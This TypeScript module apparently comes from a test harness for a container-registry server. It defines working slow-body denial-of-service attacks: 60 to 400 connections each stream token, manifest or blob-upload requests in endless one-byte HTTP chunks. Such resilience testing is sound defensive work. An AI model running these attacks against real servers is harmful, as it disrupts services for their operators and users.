/** Bodies in one-byte chunks: a chunk may cost a server many times its byte. */
import type { Attack, AttackTarget } from "./attack.js";
import { ended, open, send } from "./sockets.js";

const connections = 60;
/** One less than the largest form. */
const formChunks = 65_535;

/** Chunks per write: enough for the server to read thousands at once. */
const chunksPerWrite = 8_192;

/** `count` chunks of one byte each, without the last chunk. */
export function* oneByteChunks(count: number): Generator<string> {
  for (let left = count; left > 0; left -= chunksPerWrite)
    yield "1\r\nx\r\n".repeat(Math.min(left, chunksPerWrite));
}

/**
 * Sends a request with an endless body, of which it sends `chunks` one-byte chunks, and waits for the end of the connection.
 */
export async function sendTinyChunks(target: AttackTarget, head: string, chunks: number): Promise<void> {
  const socket = open(target);
  await send(socket, [`${head}\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n`]);
  await send(socket, oneByteChunks(chunks));
  await ended(socket);
}

export const tinyChunksToken: Attack = {
  name: "tiny-chunks-token",
  what: "60 connections each send a token request form in 65,535 chunks of one byte and never end it",
  waitMillisecondsMax: 100,
  run: async (target) => {
    await Promise.all(
      Array.from({ length: connections }, () => sendTinyChunks(target, "POST /token HTTP/1.1", formChunks)),
    );
  },
};

/** One less than the largest manifest. */
const manifestChunks = 4 * 1024 * 1024 - 1;

export const tinyChunksManifest: Attack = {
  name: "tiny-chunks-manifest",
  what: "60 connections each push a manifest of 4 MiB in chunks of one byte and never end it",
  waitMillisecondsMax: 100,
  run: async (target) => {
    await Promise.all(
      Array.from({ length: connections }, (_, number) =>
        sendTinyChunks(target, `PUT /v2/attack/manifests/tag-${number} HTTP/1.1`, manifestChunks),
      ),
    );
  },
};

const uploads = 400;
const uploadChunks = 2 * 1024 * 1024;

export const tinyChunksUploads: Attack = {
  name: "tiny-chunks-uploads",
  what: "400 uploads at once send their blobs in chunks of one byte",
  waitMillisecondsMax: 100,
  run: async (target) => {
    const path = `/v2/attack/blobs/uploads/?digest=sha256:${"0".repeat(64)}`;
    await Promise.all(
      Array.from({ length: uploads }, () => sendTinyChunks(target, `POST ${path} HTTP/1.1`, uploadChunks)),
    );
  },
};
